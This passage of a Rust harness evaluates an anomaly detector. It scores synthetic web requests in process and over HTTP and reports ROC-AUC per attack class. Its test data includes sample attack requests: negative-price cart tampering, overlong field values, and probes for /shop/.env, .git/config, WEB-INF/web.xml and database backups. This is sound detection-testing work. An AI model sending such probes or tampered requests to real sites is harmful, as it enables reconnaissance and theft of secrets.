                    json!({"status": 200, "latency_ms": lognormal(&mut rng, 90.0, 0.3).round(), "bytes": lognormal(&mut rng, 1200.0, 0.3).round()}),
                ),
                "illegal_value" => (
                    "POST".into(),
                    "/shop/register.jsp".into(),
                    json!({"body": format!("name=Customer{}&email=c1%40mail.example&phone=call+me+{}&zip=ABCDE&B1=Register", rng.gen_range(1..9000), pick(&mut rng, &WORDS))}),
                    json!({"status": 200, "latency_ms": lognormal(&mut rng, 120.0, 0.3).round(), "bytes": lognormal(&mut rng, 1500.0, 0.3).round()}),
                ),
                "overlong_value" => {
                    let n = rng.gen_range(300..900);
                    (
                        "GET".into(),
                        format!(
                            "/shop/add.jsp?id=7&name={}&price=10&qty=1&B1=Add+to+cart",
                            "A".repeat(n)
                        ),
                        json!({}),
                        json!({"status": 200, "latency_ms": lognormal(&mut rng, 25.0, 0.3).round(), "bytes": lognormal(&mut rng, 3000.0, 0.3).round()}),
                    )
                }
                "tampered_price" => (
                    "GET".into(),
                    format!(
                        "/shop/add.jsp?id={}&name={}&price=-{}&qty={}&B1=Add+to+cart",
                        rng.gen_range(1..500),
                        pick(&mut rng, &names),
                        rng.gen_range(1..100),
                        rng.gen_range(100..999)
                    ),
                    json!({}),
                    json!({"status": 200, "latency_ms": lognormal(&mut rng, 25.0, 0.3).round(), "bytes": lognormal(&mut rng, 3000.0, 0.3).round()}),
                ),
                _ => (
                    "GET".into(),
                    pick(
                        &mut rng,
                        &[
                            "/shop/.git/config",
                            "/shop/WEB-INF/web.xml",
                            "/shop/backup/shop.sql.gz",
                            "/shop/.env",
                            "/shop/admin/config.bak",
                        ],
                    )
                    .to_string(),
                    json!({}),
                    json!({"status": 404, "latency_ms": 3, "bytes": 300}),
                ),
            };
            let at = rng.gen_range(0..held.len());
            held.insert(at, row(a, r, i, o, Some(class)));
        }
    }
    (hist, held)
}

/// `{action, resource, context}`: input and output members merged, reasoning dropped.
fn context_shape(mut r: Row) -> Row {
    let mut ctx = serde_json::Map::new();
    for part in ["input", "output"] {
        if let Some(Value::Object(m)) = r.event.get(part) {
            for (k, v) in m {
                ctx.insert(k.clone(), v.clone());
            }
        }
    }
    r.event = json!({"action": r.event["action"], "resource": r.event["resource"], "context": ctx});
    r
}

fn with_agent(ev: &Value, agent_id: &str) -> Value {
    let mut e = ev.clone();
    e["agent_id"] = json!(agent_id);
    e
}

fn auc_of(scores: &[f64], rows: &[Row], keep: &dyn Fn(usize) -> bool) -> f64 {
    let (mut s, mut y) = (Vec::new(), Vec::new());
    for (i, r) in rows.iter().enumerate() {
        if keep(i) {
            s.push(scores[i]);
            y.push(r.attack.is_some());
        }
    }
    roc_auc(&s, &y)
}

fn per_class(scores: &[f64], rows: &[Row]) -> String {
    let normal: Vec<bool> = rows.iter().map(|r| r.attack.is_none()).collect();
    let mut classes: Vec<&'static str> = Vec::new();
    for c in rows.iter().filter_map(|r| r.attack) {
        if !classes.contains(&c) {
            classes.push(c);
        }
    }
    classes.sort_unstable();
    classes
        .iter()
        .map(|c| {
            let (mut s, mut y) = (Vec::new(), Vec::new());
            for (i, r) in rows.iter().enumerate() {
                if normal[i] || r.attack == Some(*c) {
                    s.push(scores[i]);
                    y.push(!normal[i]);
                }
            }
            format!("{c} {:.3}", roc_auc(&s, &y))
        })
        .collect::<Vec<_>>()
        .join(", ")
}

/// Mean share of the normal rows scored below a burst request, by its position in the run
/// (diagnostics).
fn burst_positions(scores: &[f64], rows: &[Row]) -> String {
    let normals: Vec<f64> = rows
        .iter()
        .zip(scores)
        .filter(|(r, _)| r.attack.is_none())
        .map(|(_, s)| *s)
        .collect();
    let mut by_pos: Vec<(f64, usize)> = vec![(0.0, 0); 10];
    let mut run = 0usize;
    for (r, s) in rows.iter().zip(scores) {
        if r.attack == Some("request_burst") {
            let below = normals.iter().filter(|n| **n < *s).count() as f64;
            let slot = &mut by_pos[run.min(9)];
            slot.0 += below / normals.len().max(1) as f64;
            slot.1 += 1;
            run += 1;
        } else {
            run = 0;
        }
    }
    by_pos
        .iter()
        .map(|(sum, n)| format!("{:.3}", sum / (*n).max(1) as f64))
        .collect::<Vec<_>>()
        .join(" ")
}

/// 20 % of the anomalies (seeded), none of class `skip`.
fn labelled_fifth(rows: &[Row], skip: Option<&str>) -> Vec<usize> {
    let mut idx: Vec<usize> = rows
        .iter()
        .enumerate()
        .filter(|(_, r)| r.attack.is_some())
        .map(|(i, _)| i)
        .collect();
    idx.shuffle(&mut ChaCha8Rng::seed_from_u64(99));
    idx.truncate(idx.len() / 5);
    idx.retain(|i| skip.is_none() || rows[*i].attack != skip);
    idx.sort_unstable();
    idx
}

fn in_process(
    o: &Opts,
    history: &[Row],
    holdout: &[Row],
    failures: &mut Vec<String>,
) -> Result<()> {
    let ids: Vec<String> = (0..AGENTS.len())
        .map(|i| format!("00000000-0000-4000-8000-00000000000{i}"))
        .collect();
    let hist: Vec<Value> = history
        .iter()
        .map(|r| with_agent(&r.event, &ids[r.agent]))
        .collect();
    let mut none = |_p: f64| Ok(());
    let t = Instant::now();
    let (model, _) = Model::train(&hist, &vec![None; hist.len()], 0.1, 42, &mut none)
        .map_err(|e| anyhow!("{e}"))?;
    let train_s = t.elapsed().as_secs_f64();
    // As in the server: window values of scored events are kept for labels given later.
    let seen = std::sync::Arc::new(steward_anomaly::seen::Seen::default());
    let score_all = |m: Model| -> Vec<f64> {
        let live = Live::new(m, None, Backend::Native).with_seen(seen.clone());
        holdout
            .iter()
            .map(|r| live.score(&with_agent(&r.event, &ids[r.agent])))
            .collect()
    };
    if std::env::var_os("ANOMALY_EVAL_DEBUG").is_some() {
        println!("  tail {:?}", model.tail_thresholds());
        let mut probe = holdout
            .iter()
            .filter(|r| r.attack == Some("abnormal_latency"))
            .take(3)
            .collect::<Vec<_>>();
        probe.extend(holdout.iter().filter(|r| r.attack.is_none()).take(2));
        for r in probe {
            let mut d = [0f32; steward_anomaly::features::DENSE];
            let mut b = [0f32; steward_anomaly::features::BAG];
            model.features(&with_agent(&r.event, &ids[r.agent]), None, &mut d, &mut b);
            println!(
                "  {:?} forest {:.3} tail {:.3} {:?}",
                r.attack,
                model.forest.score(&d),
                model.tail(&d),
                d
            );
        }
    }
    let t = Instant::now();
    let s = score_all(model);
    let score_us = t.elapsed().as_secs_f64() * 1e6 / holdout.len().max(1) as f64;
    let auc = auc_of(&s, holdout, &|_| true);
    if std::env::var_os("ANOMALY_EVAL_DEBUG").is_some() {
        let mut idx: Vec<usize> = (0..holdout.len()).collect();
        idx.sort_by(|a, b| s[*b].total_cmp(&s[*a]));
        for &i in idx.iter().filter(|i| holdout[**i].attack.is_none()).take(8) {
            println!("  top normal {:.4} {}", s[i], holdout[i].event);
        }
        for &i in idx
            .iter()
            .rev()
            .filter(|i| holdout[**i].attack.is_some_and(|c| c != "request_burst"))
            .take(8)
        {
            println!(
                "  bottom attack {:.4} {:?} {}",
                s[i], holdout[i].attack, holdout[i].event
            );
        }
    }
    println!("\n### In process\n\nunsupervised: ROC-AUC {auc:.4} (training {train_s:.2} s, scoring {score_us:.1} µs per event with the copy of the event, mean)\n  per class: {}", per_class(&s, holdout));
    if std::env::var_os("ANOMALY_EVAL_DEBUG").is_some() {
        println!("  bursts by position: {}", burst_positions(&s, holdout));
    }
    let lab = labelled_fifth(holdout, o.unlabelled_class.as_deref());
    let mut events = hist.clone();
    let mut labels = vec![None; hist.len()];
    for &i in &lab {
        events.push(with_agent(&holdout[i].event, &ids[holdout[i].agent]));
        labels.push(Some(true));
    }
    let (model, rep) = Model::train_with(&events, &labels, 0.1, 42, Some(&seen), &mut none)
        .map_err(|e| anyhow!("{e}"))?;
    let s = score_all(model);
    let all = auc_of(&s, holdout, &|_| true);
    let rest = auc_of(&s, holdout, &|i| lab.binary_search(&i).is_err());
    println!("20 % labelled ({} anomalies, supervised {}): ROC-AUC {all:.4} on all held-out rows, {rest:.4} on the unlabelled rest\n  per class: {}", lab.len(), rep.supervised, per_class(&s, holdout));
    if std::env::var_os("ANOMALY_EVAL_DEBUG").is_some() {
        println!("  bursts by position: {}", burst_positions(&s, holdout));
    }
    // The tree option on the same rows (ANOMALY_SUPERVISED_MODEL=forest).
    let (forest, _) = Model::train_kind(
        &events,
        &labels,
        0.1,
        42,
        Some(&seen),
        steward_anomaly::supervised::SupervisedKind::Forest,
        &mut none,
    )
    .map_err(|e| anyhow!("{e}"))?;
    let s = score_all(forest);
    let all = auc_of(&s, holdout, &|_| true);
    let rest = auc_of(&s, holdout, &|i| lab.binary_search(&i).is_err());
    println!("20 % labelled, tree option (forest): ROC-AUC {all:.4} on all held-out rows, {rest:.4} on the unlabelled rest\n  per class: {}", per_class(&s, holdout));
    if let Some(min) = o.min_auc {
        if auc < min {
            failures.push(format!("in-process unsupervised ROC-AUC {auc:.4} < {min}"));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------
// Over HTTP.

struct Server(Option<Child>, PathBuf);

impl Drop for Server {
    fn drop(&mut self) {
        if let Some(c) = &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = std::fs::remove_dir_all(&self.1);
    }
}

fn start(bin: &Path, admin_key: &str) -> Result<(Server, String)> {
    let dir = std::env::temp_dir().join(format!("anomaly-eval-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&dir)?;
    let port = std::net::TcpListener::bind("127.0.0.1:0")?
        .local_addr()?
        .port();
    let log = std::fs::File::create(dir.join("server.log"))?;
    let bin = std::fs::canonicalize(bin).with_context(|| format!("{}", bin.display()))?;
    let child = Command::new(&bin)
        .current_dir(&dir)
        .env("HOST", "127.0.0.1")
        .env("PORT", port.to_string())
        .env(
            "DATABASE_URL",
            format!("sqlite://{}/steward.db", dir.display()),
        )
        .env("ADMIN_API_KEY", admin_key)
        .env("EXPORT_STORAGE_PATH", dir.join("exports"))
        .env("MODEL_STORAGE_PATH", dir.join("models"))
        .env("LOG_LEVEL", "WARNING")
        .env("RATE_LIMIT_ENABLED", "false")
        .stdout(Stdio::null())
        .stderr(log)
        .spawn()
        .with_context(|| format!("start {}", bin.display()))?;
    Ok((Server(Some(child), dir), format!("127.0.0.1:{port}")))
}

async fn call(
    c: &mut Conn,
    key: &str,
    method: &str,
    path: &str,
    body: Option<&Value>,
) -> Result<(u16, Value)> {
    c.call(
        method,
        &format!("/api/v1{path}"),
        &[("X-API-Key", key)],
        body,
    )
    .await
}

/// Waits until no training task of the tenant is queued or running; returns the last task.
async fn settle(c: &mut Conn, key: &str) -> Result<Value> {
    let deadline = Instant::now() + Duration::from_secs(300);
    loop {
        let (s, t) = call(c, key, "GET", "/anomalies/detector/training/status", None).await?;
        if s == 404 || !matches!(t["status"].as_str(), Some("queued" | "running")) {
            return Ok(t);
        }
        if Instant::now() > deadline {
            bail!("training did not finish: {t}");
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

async fn train(c: &mut Conn, key: &str) -> Result<(Value, f64)> {
    settle(c, key).await?;
    let t = Instant::now();
    loop {
        let (s, b) = call(
            c,
            key,
            "POST",
            "/anomalies/detector/train",
            Some(&json!({})),
        )
        .await?;
        match s {
            202 => break,
            409 => {
                settle(c, key).await?;
            }
            _ => bail!("train answered {s}: {b}"),
        }
    }
    let task = settle(c, key).await?;
    if task["status"] != "completed" {
        bail!("training ended {task}");
    }
    Ok((task, t.elapsed().as_secs_f64()))
}

async fn score(addr: &str, key: &str, rows: &[Row], ids: &[String]) -> Result<Vec<f64>> {
    let mut c = Conn::open(addr).await?;
    let mut out = Vec::with_capacity(rows.len());
    for r in rows {
        let body = json!({"agent_id": ids[r.agent], "event_data": r.event, "source": "manual"});
        let (s, b) = call(&mut c, key, "POST", "/anomalies/report", Some(&body)).await?;
        if s != 201 {
            bail!("report answered {s}: {b}");
        }
        out.push(b["risk_score"].as_f64().unwrap_or(0.0));
    }
    Ok(out)
}

async fn http(
    o: &Opts,
    history: &[Row],
    holdout: &[Row],
    failures: &mut Vec<String>,
) -> Result<()> {
    let (_server, addr) = match (&o.bin, &o.url) {
        (Some(bin), _) => {
            let (s, a) = start(bin, &o.admin_key)?;
            (Some(s), a)
        }
        (None, Some(u)) => (
            None,
            u.trim_start_matches("http://")
                .trim_end_matches('/')
                .to_owned(),
        ),
        _ => return Ok(()),
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Ok(mut c) = Conn::open(&addr).await {
            if let Ok((200, _)) = c.call("GET", "/health", &[], None).await {
                break;
            }
        }
        if Instant::now() > deadline {
            bail!("the server at {addr} did not come up");
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let key = crate::bench::new_tenant(&addr, &o.admin_key, "anomaly-eval").await?;
    let mut c = Conn::open(&addr).await?;
    let mut ids = Vec::new();
    for name in AGENTS {
        let (s, b) = call(
            &mut c,
            &key,
            "POST",
            "/agents/register",
            Some(&json!({"name": name, "capabilities": ["observe"]})),
        )
        .await?;
        if s != 201 {
            bail!("register answered {s}: {b}");
        }
        ids.push(b["id"].as_str().unwrap_or_default().to_owned());
    }
    println!("\n### Over HTTP ({addr})\n");
    let t0 = Instant::now();
    for r in history {
        let mut body = r.event.clone();
        body["agent_id"] = json!(ids[r.agent]);
        let (s, b) = call(&mut c, &key, "POST", "/audit/log", Some(&body)).await?;
        if s != 201 {
            bail!("audit log answered {s}: {b}");
        }
    }
    println!(
        "history: {} entries in {:.1} s",
        history.len(),
        t0.elapsed().as_secs_f64()
    );
    let (task, secs) = train(&mut c, &key).await?;
    println!(
        "trained version {} in {secs:.1} s (task to completion)",
        task["model_version"]
    );
    let t1 = Instant::now();
    let s1 = score(&addr, &key, holdout, &ids).await?;
    let auc1 = auc_of(&s1, holdout, &|_| true);
    println!(
        "unsupervised: ROC-AUC {auc1:.4} ({} reports in {:.1} s)\n  per class: {}",
        holdout.len(),
        t1.elapsed().as_secs_f64(),
        per_class(&s1, holdout)
    );
    let lab = labelled_fifth(holdout, o.unlabelled_class.as_deref());
    // The first connection idled while the reports were sent on another: open a new one.
    let mut c = Conn::open(&addr).await?;
    for &i in &lab {
        let body = json!({"event_data": with_agent(&holdout[i].event, &ids[holdout[i].agent]), "label": 1, "source": "anomaly-eval"});
        let (s, b) = call(
            &mut c,
            &key,
            "POST",
            "/anomalies/detector/feedback",
            Some(&body),
        )
        .await?;
        if s != 201 {
            bail!("feedback answered {s}: {b}");
        }
    }
    let (task, secs) = train(&mut c, &key).await?;
    let (_, status) = call(&mut c, &key, "GET", "/anomalies/detector/status", None).await?;
    let (_, metrics) = call(&mut c, &key, "GET", "/anomalies/detector/metrics", None).await?;
    println!("{} anomalies labelled through feedback; trained version {} in {secs:.1} s; status {status}; metrics {metrics}", lab.len(), task["model_version"]);
    let s2 = score(&addr, &key, holdout, &ids).await?;
    let all = auc_of(&s2, holdout, &|_| true);
    let rest = auc_of(&s2, holdout, &|i| lab.binary_search(&i).is_err());
    println!("20 % labelled: ROC-AUC {all:.4} on all held-out rows, {rest:.4} on the unlabelled rest\n  per class: {}", per_class(&s2, holdout));
    if let Some(min) = o.min_auc {
        if auc1 < min {
            failures.push(format!("HTTP unsupervised ROC-AUC {auc1:.4} < {min}"));
        }
        if all < auc1 {
            failures.push(format!(
                "HTTP ROC-AUC fell after feedback ({auc1:.4} → {all:.4})"
            ));
        }
    }
    Ok(())
}
